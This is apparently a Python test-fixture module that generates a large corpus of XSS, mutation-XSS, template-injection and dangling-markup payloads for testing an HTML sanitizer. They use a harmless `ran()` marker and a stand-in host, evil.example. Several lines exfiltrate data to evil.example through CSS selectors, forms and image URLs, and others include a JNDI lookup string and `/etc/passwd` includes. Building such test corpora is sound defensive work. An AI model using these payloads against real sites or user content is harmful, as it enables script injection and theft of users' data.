"""Hostile HTML of our own, made from families: what a title, a body, an outlet or a note may hold. Each tries to call `ran()`,
to load from evil.example, or to be calculated by a template."""

from __future__ import annotations

from collections.abc import Iterator

RUN = "ran()"
IMAGE = f"<img src=x onerror={RUN}>"
EVENTS = (
    ("img src=x", "onerror"), ("img srcset=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("iframe", "onload"),
    ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source src=x", "onerror"), ("details open", "ontoggle"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"), ("div tabindex=1 autofocus", "onfocus"),
    ("object data=x", "onerror"), ("embed src=x", "onload"), ("link rel=stylesheet href=x", "onerror"), ("style", "onload"),
    ("script src=x", "onerror"), ("input type=image src=x", "onerror"), ("div contenteditable autofocus", "onfocus"),
    ("p style=animation:x", "onanimationstart"), ("frameset", "onload"), ("table background=x", "onerror"),
    ("div style=width:100vw;height:100vh", "onpointerenter"),
)  # fmt: skip
"""tag with what makes its handler fire by itself, and the handler"""


def payloads() -> list[str]:
    """All of them, each once."""
    families = (
        events,
        scripts,
        svg,
        maths,
        frames,
        addresses,
        styles,
        entities,
        unicode,
        templates,
        breakouts,
        contexts,
        dangling,
    )
    return list(dict.fromkeys(payload for family in families for payload in family()))


def events() -> Iterator[str]:
    for tag, handler in EVENTS:
        yield f"<{tag} {handler}={RUN}>"
        yield f'<{tag.upper()} {handler.upper()}="{RUN}">'
        yield f"<{tag.replace(' ', '/')}/{handler}='{RUN}'//"
        yield f"<{tag}\n{handler}\t=\f{RUN}>"
    for shape in ("<img src=x onerror=`{}`>", "<img src=x:x onerror\x0b={}>", "<img src onerror={} x='", "<img/src=x/onerror={}>",
                  '<img src="x`" onerror={}>', "<<img src=x onerror={}>", "<img src=x onerror=&#114;an()>", "<im<b>g src=x onerror={}>",
                  "<img src=x onerror=\u2028{}>", "<image src=x onerror={}>", "<img src=x onerror='r'+'an()';eval(this)>"):  # fmt: skip
        yield shape.replace("{}", RUN)


def scripts() -> Iterator[str]:
    openings = (
        "<script>",
        "<SCRIPT>",
        "<ScRiPt>",
        "<script/x>",
        "<script\n>",
        "<script\t>",
        "<script type=module>",
        "<script x=>",
    )
    yield from (f"{opening}{RUN}</script>" for opening in openings)
    before = (
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        '">',
        "'>",
        "</a>",
        "</h1>",
        "</main>",
        "</noscript>",
        "</option></select>",
    )
    yield from (f"{closing}<script>{RUN}</script>" for closing in before)
    yield f"<script>{RUN}"
    yield f"<script>{RUN}<!--"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script src=data:text/javascript,{RUN}></script>"
    yield "<script src=//evil.example/x.js></script>"
    yield f"<script>/*</script><script>*/{RUN}</script>"
    yield f"<!--<script>-->{RUN}</script>"
    yield f"<script language=javascript>{RUN}</script >"
    yield f"<xss><script>{RUN}</script></xss>"
    yield f"<script>window['ran']()</script>{RUN}"


def svg() -> Iterator[str]:
    inside = (
        f"<script>{RUN}</script>", f"<script href=data:text/javascript,{RUN} />", f"<animate onbegin={RUN} attributeName=x dur=1s>",
        f"<set onbegin={RUN} attributename=x>", f"<a xlink:href=javascript:{RUN}><text y=20>x</text></a>",
        f"<foreignObject>{IMAGE}</foreignObject>", f"<image href=x onerror={RUN} />", f"<style>{IMAGE}</style>",
        f"<title>{IMAGE}</title>", f"<desc><script>{RUN}</script></desc>", f"<animateTransform onbegin={RUN} attributeName=transform>",
        f"<use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\" />",
        "<feImage href=//evil.example/x.svg />", f"<discard onbegin={RUN} />", f"<handler type=text/javascript>{RUN}</handler>",
        f"<a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a>",
    )  # fmt: skip
    for part in inside:
        yield f"<svg>{part}</svg>"
        yield f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{part}'


def maths() -> Iterator[str]:
    """Markup that changes its meaning when it is parsed a second time."""
    yield f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}"
    yield f"<math><mtext><table><mglyph><style><math>{IMAGE}"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}"
    yield f"<math><annotation-xml encoding=text/html>{IMAGE}</annotation-xml></math>"
    yield f'<svg></p><style><a id="</style>{IMAGE}">'
    yield f"<svg><style><!--</style>{IMAGE}--></svg>"
    yield f'<noscript><p title="</noscript>{IMAGE}">'
    yield f"<table><td><math><style>{IMAGE}"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>"
    yield f'<select><template><style><!--</template><a rel="--></style>{IMAGE}">'
    yield f"<template><s><template><s>{IMAGE}</s></template></s></template>{IMAGE}"
    yield f'<a title="`<img src=x onerror={RUN}>`">x</a>'
    yield f"<p><svg><title><p></title>{IMAGE}"
    yield f"<math><mi><mglyph></mi><malignmark><style>{IMAGE}</style>"


def frames() -> Iterator[str]:
    for shape in (f"<script>parent.{RUN}</script>", f"&lt;script&gt;parent.{RUN}&lt;/script&gt;", f"<img src=x onerror=parent.{RUN}>",
                  f"&#60;img src=x onerror=parent.{RUN}&#62;", f"<svg onload=top.{RUN}>"):  # fmt: skip
        yield f'<iframe srcdoc="{shape}"></iframe>'
        yield f"<iframe srcdoc='{shape}'>"
    for address in (
        f"javascript:parent.{RUN}",
        f"data:text/html,<script>parent.{RUN}</script>",
        "//evil.example/",
        "/dang-xuat",
    ):
        yield f'<iframe src="{address}"></iframe>'
        yield f'<embed src="{address}">'
        yield f'<object data="{address}"></object>'


def addresses() -> Iterator[str]:
    """As a title, and as the address of an item."""
    for scheme in ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;", "&#106;avascript:",
                   "\x01javascript:", "vbscript:", "data:text/html,<script>parent.", "jav&#x09;ascript:", "javascript://%0a",
                   "//evil.example/", "\\\\evil.example\\", "https:evil.example", "http://evil.example@bao.example/", "feed:javascript:",
                   "view-source:javascript:", "blob:javascript:"):  # fmt: skip
        yield f"{scheme}{RUN}"
        yield f'<a href="{scheme}{RUN}" autofocus onfocus=click()>x</a>'


def styles() -> Iterator[str]:
    for rule in ("@import '//evil.example/x.css';", "*{background:url(//evil.example/x)}", "body{display:none}",
                 "@font-face{font-family:x;src:url(//evil.example/f)}",
                 "input[value^='a']{background:url(//evil.example/a)}", f"x{{behavior:url(javascript:{RUN})}}"):  # fmt: skip
        yield f"<style>{rule}</style>"
        yield f"</style><style>{rule}"
    for rule in (
        "background:url(//evil.example/x)",
        f"width:expression({RUN})",
        "position:fixed;inset:0",
        f"-moz-binding:url(javascript:{RUN})",
    ):
        yield f'<div style="{rule}">x</div>'
        yield f'" style="{rule}'
    yield "<link rel=stylesheet href=//evil.example/x.css>"
    yield f"<link rel=stylesheet href=javascript:{RUN}>"


def entities() -> Iterator[str]:
    for less, more in (("&lt;", "&gt;"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3E;"), ("&#0000060", "&#0000062"), ("&amp;lt;", "&amp;gt;"),
                       ("\\x3c", "\\x3e"), ("\\u003c", "\\u003e"), ("%3C", "%3E"), ("&LT;", "&GT;"), ("+ADw-", "+AD4-")):  # fmt: skip
        yield f"{less}script{more}{RUN}{less}/script{more}"
        yield f"{less}img src=x onerror={RUN}{more}"
    yield f"&quot;&gt;{IMAGE}"
    yield f"&Tab;&NewLine;{IMAGE}"


def unicode() -> Iterator[str]:
    yield f"＜script＞{RUN}＜/script＞"
    yield f"﹤img src=x onerror={RUN}﹥"
    yield f"‹script›{RUN}‹/script›"
    for odd in ("\u200b", "\u2028", "\u202e", "\ufeff", "\u0301", "\u00a0", "\x00", "\x1b[31m", "\U0001f600", "\u034f"):
        yield f"<{odd}script>{RUN}</script>"
        yield f"<img{odd} src=x onerror={RUN}>"
        yield f"{odd}{IMAGE}{odd}"
    yield "\u202e>)(nar=rorreno x=crs gmi<"
    yield f"<\u0131mg src=x onerror={RUN}>"
    yield f"<\u017fcript>{RUN}</\u017fcript>"


def templates() -> Iterator[str]:
    yield from ("{{7*7}}", "{{ran()}}", "{% for x in (1,2) %}x{% endfor %}", "{{''.__class__.__mro__}}", "{{config}}", "{{request.app}}",
                "{{visit.token}}", "{% include '/etc/passwd' %}", "{# x #}{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/x}",
                "{0.__class__}", "{visit}", "%s%n%x", "%(token)s", "$(id)", "`id`", "{{constructor.constructor('ran()')()}}", "[[${7*7}]]",
                "{{=<% %>=}}", "<?php ran() ?>", "<!--#exec cmd=\"id\"-->", "{{'<img src=x onerror=ran()>'|safe}}")  # fmt: skip


def breakouts() -> Iterator[str]:
    for quote in ('"', "'", "`", "&quot;", '\\"'):
        yield f"{quote} onmouseover={quote}{RUN}"
        yield f"{quote} autofocus onfocus={RUN} x={quote}"
        yield f"{quote}>{IMAGE}"
        yield f"{quote}></a></h2></li></ul></main>{IMAGE}"
    yield f"--><!-- -->{IMAGE}"
    yield f'x" accesskey=x onclick={RUN} y="'


def contexts() -> Iterator[str]:
    for name in (
        "title",
        "textarea",
        "style",
        "script",
        "noscript",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "plaintext",
        "option",
        "template",
    ):
        yield f"</{name}>{IMAGE}"
        yield f"<{name}></{name}>{IMAGE}"
        yield f"<{name}>{IMAGE}"
    yield f"<![CDATA[{IMAGE}]]>"
    yield f"<!DOCTYPE x [<!ENTITY y '{IMAGE}'>]>&y;"
    yield f"<?xml version='1.0'?>{IMAGE}"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<!--!>{IMAGE}<!-->"


def dangling() -> Iterator[str]:
    yield "<img src='//evil.example/?"
    yield '<img src="//evil.example/?'
    yield "<base href=//evil.example/>"
    yield "<base target='"
    yield f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">'
    yield "<meta http-equiv=refresh content='0;url=//evil.example/?"
    yield "<form action=//evil.example/><button autofocus>x"
    yield "<link rel=prefetch href=//evil.example/x>"
    yield "<link rel=preload as=script href=//evil.example/x.js>"
    yield "<a ping=//evil.example/ href=/>x</a>"
    yield "<video poster=//evil.example/x></video>"
    yield "<input name=token value=x form=x>"
    yield "<button form=x formaction=//evil.example/>x"
    yield "<portal src=//evil.example/>"
    yield "<body background=//evil.example/x>"
